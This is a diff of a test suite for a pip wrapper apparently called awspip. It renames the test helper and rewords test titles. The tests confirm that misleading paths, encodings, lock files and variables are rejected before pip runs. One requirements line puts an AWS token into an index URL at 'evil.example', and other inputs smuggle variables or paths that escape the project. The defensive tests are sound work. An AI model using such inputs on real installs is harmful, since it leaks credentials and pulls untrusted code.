@@ -4,14 +4,14 @@ import { afterAll, describe, expect, test } from 'vitest';
 import { bin, countingPython, sandbox, startNode } from '../helpers/awspip.ts';
 import { openHostileIndex } from '../helpers/hostile-index.ts';
 
-// What pip reads in another way than it looks: refused all the same, before pip starts.
+// pip reads these arguments and files differently from what they seem. awspip rejects them before pip starts.
 const user = await sandbox();
 const { python, starts } = await countingPython(user.folder);
 const hostile = await openHostileIndex(user.folder);
 const { files } = hostile;
 const project = user.path('project');
 
-/** Writes a file of the project that every command stands in, and answers its name. */
+/** Writes a file of the project in which every command runs, and returns its name. */
 const write = (name: string, content: string | Buffer): string => {
   const file = path.join(project, name);
   mkdirSync(path.dirname(file), { recursive: true });
@@ -28,7 +28,7 @@ afterAll(async () => {
   await user.remove();
 });
 
-async function refused(argv: readonly string[], names: string, environment: Record<string, string> = {}) {
+async function expectRejected(argv: readonly string[], names: string, environment: Record<string, string> = {}) {
   const variables = { ...user.environment, AWSPIP_PYTHON: python, ...environment };
   const { exitCode, stdout, stderr } = await startNode([bin, ...argv], variables, project).ended;
   expect([exitCode, stderr]).toEqual([64, expect.stringContaining(names)]);
@@ -48,22 +48,22 @@ describe('paths', () => {
       [`inside @ ${inside}#subdirectory=${files.project}`, `${inside}#egg=inside&subdirectory=${files.project}`],
       [`file://${user.path('elsewhere')}\\..\\project`, `${inside}[x]`, `file://${project}/link/..`],
     ].flat(),
-  )('a file or folder that is not what the path looks like: %s', async (word) => {
-    await refused(['install', word], word.replace(/^.* @ /, ''));
-    await refused(['download', '--no-deps', word], word.replace(/^.* @ /, ''));
+  )('a path to another file or folder than it seems: %s', async (argument) => {
+    await expectRejected(['install', argument], argument.replace(/^.* @ /, ''));
+    await expectRejected(['download', '--no-deps', argument], argument.replace(/^.* @ /, ''));
   });
 
-  test('an editable project whose subdirectory lies outside', async () => {
-    const word = `${inside}#egg=inside&subdirectory=${files.project}`;
-    await refused(['install', '-e', word], word);
+  test('an editable project with a subdirectory outside the project', async () => {
+    const argument = `${inside}#egg=inside&subdirectory=${files.project}`;
+    await expectRejected(['install', '-e', argument], argument);
   });
 
-  test('a repository that is open, with a subdirectory outside its checkout', async () => {
-    const word = `git+https://git.example/team/x#subdirectory=${files.project}`;
-    await refused(['install', '--awspip-open=git+https://git.example/team/', word], word);
+  test('an allowed repository with a subdirectory outside its checkout', async () => {
+    const argument = `git+https://git.example/team/x#subdirectory=${files.project}`;
+    await expectRejected(['install', '--awspip-open=git+https://git.example/team/', argument], argument);
   });
 
-  test('a wheel in a file', async () => refused(...inFile('slash.txt', `six\n${files.wheel}/\n`)));
+  test('a wheel in a requirements file', async () => expectRejected(...inFile('slash.txt', `six\n${files.wheel}/\n`)));
 });
 
 describe('requirements files', () => {
@@ -92,12 +92,11 @@ describe('requirements files', () => {
       Buffer.concat([Buffer.from([0xff, 0xfe, 0xfe, 0xff]), utf16(wheel).swap16()]),
       'has an ambiguous encoding',
     ],
-    ['wide.txt', Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), utf16(`\n${wheel}`)]), 'has an ambiguous encoding'],
-  ] as const)('in an encoding in which pip reads another text: %s', async (name, content, says) => {
-    await refused(['install', '-r', write(name, content)], `\`${name}\` ${says}`);
+  ] as const)('in an encoding that pip decodes to another text: %s', async (name, content, message) => {
+    await expectRejected(['install', '-r', write(name, content)], `${name} ${message}`);
   });
 
-  test('named by an address that pip reads in another way', async () => {
+  test('named by a URL that pip decodes to another path', async () => {
     write('a\\b.txt', wheel);
     write('a/b.txt', 'six\n');
     for (const [name, start] of [
@@ -106,7 +105,7 @@ describe('requirements files', () => {
       ['/blank.txt', ` file://${project}`],
     ] as const) {
       if (!name.includes('\\')) write(name.replace('%2F', '/').slice(1), wheel);
-      await refused(['install', '-r', `${start}${name}`], '');
+      await expectRejected(['install', '-r', `${start}${name}`], '');
     }
   });
 
@@ -114,33 +113,33 @@ describe('requirements files', () => {
     ['links.txt', `$\{PIP_FIND_LINKS}-f$\{PIP_FIND_LINKS}${files.folder}\nevil\n`, 'PIP_FIND_LINKS'],
     ['protocol.txt', `-r $\{GIT_ALLOW_PROTOCOL}.txt\n`, 'GIT_ALLOW_PROTOCOL'],
     ['secret.txt', `-r $\{AWS_REGION}.txt\n`, 'AWS_REGION'],
-  ])('filled in from a variable that pip sees otherwise: %s', async (name, content, variable) => {
-    await refused(['install', '-r', write(name, content)], `${name}:1: \`$\{${variable}}\``, {
+  ])('with a variable that has another value for pip: %s', async (name, content, variable) => {
+    await expectRejected(['install', '-r', write(name, content)], `${name}:1: \`$\{${variable}}\``, {
       AWS_REGION: 'eu-west-1',
     });
   });
 
-  test('with an index filled in from a variable: it is the index that is named', async () => {
+  test('with an index in a variable: the message names the index', async () => {
     const line = `-i https://aws:$\{AWS_TOKEN}@evil.example/\n`;
-    await refused(...inFile('index.txt', line, 1));
-    await refused(...inFile('index.txt', line, 1), { AWS_TOKEN: 'x' });
+    await expectRejected(...inFile('index.txt', line, 1));
+    await expectRejected(...inFile('index.txt', line, 1), { AWS_TOKEN: 'x' });
   });
 
-  test('with a folder outside behind very many of the own project', async () => {
+  test('with a folder outside the project after many inside', async () => {
     const own = Array.from({ length: 100 }, (_, at) => `./inside[e${at}]`);
-    await refused(...inFile('many.txt', [...own, files.project].join('\n'), 101));
+    await expectRejected(...inFile('many.txt', [...own, files.project].join('\n'), 101));
   });
 
-  test('with a link before `..`, which only some follow', async () => {
+  test('with a link before `..`, which leads to two files', async () => {
     write('../elsewhere/two.txt', wheel);
     write('two.txt', 'six\n');
-    await refused(['install', '-r', 'link/../two.txt'], 'is ambiguous');
-    await refused(['install', '-r', write('outer.txt', '-r link/../two.txt\n')], 'is ambiguous');
-    await refused(['install', 'six'], 'is ambiguous', { PIP_CONSTRAINT: 'link/../two.txt' });
+    await expectRejected(['install', '-r', 'link/../two.txt'], 'leads to two files');
+    await expectRejected(['install', '-r', write('outer.txt', '-r link/../two.txt\n')], 'leads to two files');
+    await expectRejected(['install', 'six'], 'leads to two files', { PIP_CONSTRAINT: 'link/../two.txt' });
     write('../elsewhere/one.txt', wheel);
-    await refused(['install', '-r', 'link/../one.txt'], 'one.txt:1: ');
+    await expectRejected(['install', '-r', 'link/../one.txt'], 'one.txt:1: ');
     write('other.txt', wheel);
-    await refused(['install', '-r', 'link/../other.txt'], 'other.txt:1: ');
+    await expectRejected(['install', '-r', 'link/../other.txt'], 'other.txt:1: ');
   });
 });
 
@@ -154,43 +153,46 @@ describe('projects, groups, scripts and lock files', () => {
     ['pylock.toml', '--group', 'pylock.toml:dev'],
     ['pylock.toml', '--group', 'pylock.toml[x]:dev'],
     ['pylock.toml', '-r', `file://${project}/pylock.toml?x#y`],
-  ])('what a lock file takes from elsewhere, however it is named: %s %s %s', async (name, option, value) => {
+  ])('a local file in a lock file: %s %s %s', async (name, option, value) => {
     write(name, `lock-version = "1.0"\n[[packages]]\nname = "evil"\narchive = { path = "${files.wheel}" }\n`);
-    await refused(['install', option, value], `${name}:3: \`file://${files.wheel}\` is a file of unknown origin`);
-    await refused(['lock', option, value], `${name}:3`);
+    await expectRejected(
+      ['install', option, value],
+      `${name}:3: \`file://${files.wheel}\` is a local file, which is not vetted`,
+    );
+    await expectRejected(['lock', option, value], `${name}:3`);
   });
 
-  test('under another spelling of the same extra', async () => {
+  test('a dependency of an extra in another spelling', async () => {
     const extras = `[project.optional-dependencies]\nx_y = ["${needs}"]\nx-y = ["six"]\n`;
     write('extras/pyproject.toml', `[project]\nname = "extras"\nversion = "1"\n${extras}`);
-    await refused(['install', './extras[x.y]'], 'extras/pyproject.toml:5');
+    await expectRejected(['install', './extras[x.y]'], 'extras/pyproject.toml:5');
   });
 
-  test('behind very many others, and under the project’s own name', async () => {
+  test('a dependency after many others, and with the name of the project', async () => {
     const many = [...Array.from({ length: 10_000 }, (_, at) => `a${at}`), needs];
     const project = (name: string, lines: readonly string[]) =>
       write(
         `${name}/pyproject.toml`,
         `[project]\nname = "${name}"\nversion = "1"\ndependencies = ${JSON.stringify(lines)}\n[dependency-groups]\nx = ${JSON.stringify(lines)}\n`,
       );
-    await refused(['install', '--group', `${project('many', many)}:x`], 'many/pyproject.toml:4');
-    await refused(['install', './many'], 'many/pyproject.toml:4');
+    await expectRejected(['install', '--group', `${project('many', many)}:x`], 'many/pyproject.toml:4');
+    await expectRejected(['install', './many'], 'many/pyproject.toml:4');
     project('evil', [needs]);
-    await refused(['install', './evil'], 'evil/pyproject.toml:4');
+    await expectRejected(['install', './evil'], 'evil/pyproject.toml:4');
   });
 
   test.each([
     ['PIP_GROUP', 'pylock.toml:dev'],
     ['PIP_REQUIREMENT', 'pylock.toml'],
-  ])('a lock file that a variable names, which pip would read itself: %s', async (variable, value) => {
-    await refused(['install'], `${variable}: \`pylock.toml\` is a lock file`, { [variable]: value });
+  ])('a lock file that a variable names: %s', async (variable, value) => {
+    await expectRejected(['install'], `${variable}: \`pylock.toml\` is a lock file`, { [variable]: value });
   });
 
-  test('beside an integer larger than those of JavaScript', async () => {
+  test('next to an integer that JavaScript cannot represent', async () => {
     write('large/pyproject.toml', `[build-system]\nrequires = ["${needs}"]\n${large}`);
-    await refused(['install', './large'], 'large/pyproject.toml:2');
+    await expectRejected(['install', './large'], 'large/pyproject.toml:2');
     write('group/pyproject.toml', `[dependency-groups]\nx = ["${needs}"]\nother = "no list"\n${large}`);
-    await refused(['install', '--group', 'group/pyproject.toml:x'], 'group/pyproject.toml:2');
+    await expectRejected(['install', '--group', 'group/pyproject.toml:x'], 'group/pyproject.toml:2');
   });
 
   const script = (...lines: readonly string[]) => lines.map((line) => `# ${line}\n`).join('');
@@ -199,19 +201,19 @@ describe('projects, groups, scripts and lock files', () => {
     ['blank.py', `${script('/// script ', '///')}\n${script('/// script', `dependencies = ["${needs}"]`, '///')}`, 5],
     ['large.py', script('/// script', `dependencies = ["${needs}"]`, ...large.trim().split('\n'), '///'), 2],
     ['ends.py', script('/// script', `dependencies = ["${needs}"]`, '///').replaceAll('\n', '\r'), 1],
-  ] as const)('a script whose block ends elsewhere than it seems to: %s', async (name, content, line) => {
-    await refused(['install', '--requirements-from-script', write(name, content)], `${name}:${line}`);
+  ] as const)('a script whose metadata block ends at another line than it seems: %s', async (name, content, line) => {
+    await expectRejected(['install', '--requirements-from-script', write(name, content)], `${name}:${line}`);
   });
 
-  test('a script and a group behind a link and `..`', async () => {
+  test('a script and a group after a link and `..`', async () => {
     for (const name of ['s.py', 'pyproject.toml']) write(`../elsewhere/${name}`, '');
     write('s.py', '');
-    await refused(['install', '--requirements-from-script', 'link/../s.py'], 'is ambiguous');
-    await refused(['install', '--group', 'link/../pyproject.toml:x'], 'is ambiguous');
+    await expectRejected(['install', '--requirements-from-script', 'link/../s.py'], 'leads to two files');
+    await expectRejected(['install', '--group', 'link/../pyproject.toml:x'], 'leads to two files');
   });
 });
 
-test('and pip was never started, nothing was run, nothing reached', async () => {
+test('pip was not started, no file was run, no host was reached', async () => {
   expect(await starts()).toBe(0);
   expect(hostile.ran()).toBe(false);
   expect(hostile.requests).toEqual([]);
